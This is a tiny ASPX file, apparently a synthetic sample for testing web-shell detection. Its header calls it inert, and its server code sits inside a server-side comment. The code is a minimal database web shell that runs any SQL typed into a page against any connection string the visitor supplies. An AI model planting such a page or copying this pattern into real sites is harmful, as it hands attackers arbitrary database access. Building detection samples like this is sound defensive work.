<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><script runat="server">void Go(object s, EventArgs e) { var c = new SqlConnection(txtConn.Text); var cmd = new SqlCommand(txtSql.Text, c); c.Open(); grid.DataSource = cmd.ExecuteReader(); grid.DataBind(); }</script>
--%>
